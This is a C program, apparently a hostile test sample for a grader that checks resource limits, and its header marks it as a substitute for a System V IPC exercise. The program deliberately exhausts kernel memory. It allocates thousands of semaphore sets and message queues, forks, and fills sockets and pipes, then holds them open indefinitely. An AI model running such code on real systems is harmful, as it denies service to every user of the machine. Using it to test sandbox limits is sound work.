/**
 * @file
 * @brief Hostile: fills the kernel's own memory: semaphore sets, message queues, sockets and pipes.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 *
 * None of this memory belongs to a process, so neither a process's limits nor a sum over processes counts it. Without
 * limits of their own, 32,000 sets of 32,000 semaphores take 64 gigabytes.
 */
#define _GNU_SOURCE

#include <fcntl.h>
#include <stdlib.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/socket.h>
#include <unistd.h>

/** Writes to a descriptor until no more fits in. */
static void fill(int fd)
{
    static char bytes[1 << 16];
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (write(fd, bytes, sizeof bytes) > 0)
        ;
}

int main(void)
{
    struct {
        long type;
        char text[8000];
    } *message = calloc(1, sizeof *message);
    int pair[2];
    if (!message)
        return 1;
    message->type = 1;
    for (int i = 0; i < 3000 && semget(IPC_PRIVATE, 32000, IPC_CREAT | 0600) >= 0; i++)
        ;
    for (int i = 0; i < 3000; i++) {
        const int id = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
        while (id >= 0 && msgsnd(id, message, sizeof message->text, IPC_NOWAIT) == 0)
            ;
    }
    for (int i = 0; i < 8 && fork() >= 0; i++)
        ;
    while (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0 && pipe(pair) == 0) {
        fill(pair[0] - 1);
        fill(pair[0] - 2);
        fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        fill(pair[1]);
    }
    /* The data in a pipe or socket exists as long as a process has it open. */
    for (;;)
        pause();
}
